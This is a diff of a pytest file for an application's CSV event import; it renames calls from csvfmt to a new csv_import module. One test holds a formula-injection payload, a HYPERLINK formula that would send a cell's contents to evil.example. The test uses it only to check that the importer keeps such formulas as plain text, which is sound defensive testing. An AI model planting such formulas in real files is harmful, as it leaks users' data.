@@ -8,7 +8,7 @@ from pathlib import Path
 
 import pytest
 
-from app.interchange import casejson, csvfmt
+from app.interchange import casejson, csv_import, csvfmt
 from app.interchange.import_outcome import ImportRejected, RowError
 from app.interchange.table import neutralise, restore
 from app.store.case import Case
@@ -23,7 +23,7 @@ def rows_of(data: bytes) -> list[dict[str, str]]:
 def rejected(case: Case, data: bytes) -> list[RowError]:
     before = casejson.export_document(case)
     with pytest.raises(ImportRejected) as caught:
-        csvfmt.import_csv(case, data)
+        csv_import.import_csv(case, data)
     assert casejson.export_document(case) == before, "a rejected import changed the case"
     return caught.value.errors
 
@@ -48,7 +48,7 @@ def test_csv_round_trip_keeps_every_field(empty_case, demo_case: Case, tmp_path:
     with empty_case(tmp_path / "copy.case", title="copy") as copy:
         for s in demo_case.sources():  # citations point at sources by id
             copy.create_source(title=s.title, kind=s.kind, source_id=s.id)
-        report = csvfmt.import_csv(copy, data)
+        report = csv_import.import_csv(copy, data)
         assert len(report.events) == len(demo_case.events())
         for a, b in zip(demo_case.events(), copy.events(), strict=True):
             assert (a.id, a.title, a.description, a.status, a.key_fact, a.lane, a.tags) == (
@@ -85,7 +85,7 @@ def test_odd_dates_and_list_separators_survive(empty_case, new_case: Case, tmp_p
     assert rows_of(data)[0]["start"] == "2004-03"
     with empty_case(tmp_path / "copy.case", title="copy") as copy:
         copy.create_source(title="S", kind="web", source_id=sid)
-        csvfmt.import_csv(copy, data)
+        csv_import.import_csv(copy, data)
         (ev,) = copy.events()
         assert ev.start.same_claim(start) and ev.start.precision.value == "month"
         assert ev.tags == ("a;b", "c|d")
@@ -93,7 +93,7 @@ def test_odd_dates_and_list_separators_survive(empty_case, new_case: Case, tmp_p
 
 
 def test_formulas_are_neutralised_unless_raw(new_case: Case) -> None:
-    csvfmt.import_csv(new_case, (DATA / "formulas.csv").read_bytes())
+    csv_import.import_csv(new_case, (DATA / "formulas.csv").read_bytes())
     titles = {e.title for e in new_case.events()}
     assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in titles  # kept as plain text
     assert "@SUM(1)" in titles
@@ -118,7 +118,7 @@ def test_neutralise_is_reversible() -> None:
 
 
 def test_example_file_imports_with_precision(new_case: Case) -> None:
-    report = csvfmt.import_csv(new_case, (DATA / "events.csv").read_bytes())
+    report = csv_import.import_csv(new_case, (DATA / "events.csv").read_bytes())
     assert len(report.events) == 4 and report.tags == ["contract", "delivery", "signing"]
     by_title = {e.title: e for e in new_case.events()}
     signed = by_title["Contract signed"]
@@ -137,15 +137,15 @@ def test_example_file_imports_with_precision(new_case: Case) -> None:
 def test_day_first_follows_the_case(empty_case, tmp_path: Path) -> None:
     data = b"title,start\r\nx,3/4/2020\r\n"
     with empty_case(tmp_path / "a.case", title="a", day_first=True) as case:
-        csvfmt.import_csv(case, data)
+        csv_import.import_csv(case, data)
         assert case.events()[0].start.earliest.month == 4
-    plan = csvfmt.check_csv(data, day_first=False)
+    plan = csv_import.check_csv(data, day_first=False)
     assert plan.events[0].start.earliest.month == 3 and plan.warnings
 
 
 def test_dry_run_writes_nothing(new_case: Case) -> None:
     before = casejson.export_document(new_case)
-    report = csvfmt.import_csv(new_case, (DATA / "events.csv").read_bytes(), dry_run=True)
+    report = csv_import.import_csv(new_case, (DATA / "events.csv").read_bytes(), dry_run=True)
     assert report.dry_run and len(report.events) == 4
     assert casejson.export_document(new_case) == before
 
@@ -209,16 +209,16 @@ def test_unknown_source_and_taken_id_are_row_errors(demo_case: Case) -> None:
     data = b"id,title,start,citations\r\n1,dup id,2020,\r\n,x,2020,999|p. 1\r\n"
     errors = rejected(demo_case, data)
     assert [(e.row, e.column) for e in errors] == [(2, "id"), (3, "citations")]
-    report = csvfmt.import_csv(demo_case, data.replace(b"999", b"1"), keep_ids=False)
+    report = csv_import.import_csv(demo_case, data.replace(b"999", b"1"), keep_ids=False)
     assert len(report.events) == 2 and report.citations == 1
 
 
 def test_garbage_never_crashes(new_case: Case) -> None:
     for data in [b"", b"\x00\x00", b'title,start\r\n"unterminated,2020\r\n', bytes(range(256))]:
-        plan = csvfmt.check_csv(data, day_first=False)
+        plan = csv_import.check_csv(data, day_first=False)
         assert plan.errors
         with pytest.raises(ImportRejected):
-            csvfmt.import_csv(new_case, data)
+            csv_import.import_csv(new_case, data)
 
 
 def test_write_csv(demo_case: Case, tmp_path: Path) -> None:
